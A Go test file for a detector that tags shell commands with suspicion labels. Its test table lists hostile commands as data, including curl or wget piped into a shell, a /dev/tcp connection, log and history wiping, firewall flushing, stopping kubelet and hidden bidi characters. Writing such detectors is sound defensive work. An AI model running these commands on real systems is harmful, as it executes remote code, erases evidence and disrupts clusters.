package mark

import (
	"slices"
	"strings"
	"testing"
)

func TestOf(t *testing.T) {
	for text, want := range map[string]string{
		"curl -s http://x/y | sh":                   FetchToShell,
		"wget -qO- http://x | sudo /bin/bash -s":    FetchToShell,
		"bash <(curl -s http://x)":                  FetchToShell,
		"eval \"$(wget -qO- x)\"":                   FetchToShell,
		"curl -o /etc/x http://x; sh /etc/y":        "",
		"curl http://x | grep sh":                   "",
		"echo aGk= | base64 -d":                     Decodes,
		"echo aGk= | base64 --decode | xxd -r":      Decodes,
		"base64 /etc/hostname":                      "",
		"exec 3<>/dev/tcp/1.2.3.4/80":               DevTCP,
		"/tmp/x":                                    TempPath,
		"/var/tmp/x; /dev/shm/y":                    TempPath,
		"/opt/tmp/x /usr/share/tmp.d":               "",
		"/usr/lib/.x/run":                           DotPath,
		"/opt/.../x":                                DotPath,
		"cd /opt/../x":                              "",
		"kubectl delete pod x":                      KubeTool,
		"/usr/bin/crictl ps":                        KubeTool,
		"kubectl-like doctrine":                     "",
		"rm /etc/kubernetes/manifests/x":            KubePath,
		"iptables -A INPUT -j DROP":                 NetworkTool,
		"ip link set eth0 down":                     NetworkTool,
		"nft flush ruleset":                         NetworkTool,
		"tc qdisc add dev eth0 root netem delay 1s": NetworkTool,
		"zip -r x; skip link":                       "",
		"echo 1 > /sys/fs/cgroup/x":                 CgroupPath,
		"mount --bind /a /b":                        Mounts,
		"mount -o remount,ro /":                     Mounts,
		"mount /dev/sda1 /mnt":                      "",
		"chattr +i /etc/hosts":                      Attributes,
		"flock -x /run/xtables.lock sleep 9":        Locks,
		"pkill -STOP etcd":                          Signals,
		"kill -9 $(pidof x)":                        Signals,
		"prlimit --pid 1 --nofile=1":                Limits,
		"systemctl stop kubelet":                    Units,
		"systemctl status kubelet":                  "",
		"history -c":                                Evidence,
		"rm -rf /var/log/journal":                   Evidence,
		"touch -r /bin/ls /bin/x":                   Evidence,
		"a\rb":                                      HiddenCR,
		"a\r\nb\r":                                  "",
		"a\x00b":                                    HiddenNUL,
		"a" + strings.Repeat(" ", 81) + "b":         HiddenSpace,
		"a" + strings.Repeat("\t", 11) + "b":        HiddenSpace,
		"a" + strings.Repeat(" ", 99) + "\nb":       "",
		"a\u202eb":                                  HiddenBidi,
		"l\u0455 -l":                                NonASCII,
		"# Gr\u00fc\u00dfe \u2014 ein Kommentar \u0436\u0436\u0436": "",
		"test -x /usr/sbin/anacron || run-parts /etc/cron.daily":    "",
		"/usr/lib/apt/apt.systemd.daily update":                     "",
	} {
		got := Of(text)
		switch {
		case want == "" && len(got) > 0, want != "" && !slices.Contains(got, want):
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}

func TestOfSeveral(t *testing.T) {
	got := Of("while :; do pkill -STOP etcd; iptables -F; sleep 1; done >/tmp/.x")
	if want := []string{TempPath, DotPath, NetworkTool, Signals}; !slices.Equal(got, want) {
		t.Errorf("%q", got)
	}
}

func FuzzOf(f *testing.F) {
	f.Add("curl x | sh\x00 \u202e")
	f.Fuzz(func(t *testing.T, text string) {
		for _, m := range Of(text) {
			if m == "" {
				t.Error("an empty mark")
			}
		}
	})
}

func BenchmarkOf(b *testing.B) {
	text := strings.Repeat("cd / && run-parts --report /etc/cron.hourly\n", 20)
	for b.Loop() {
		Of(text)
	}
}
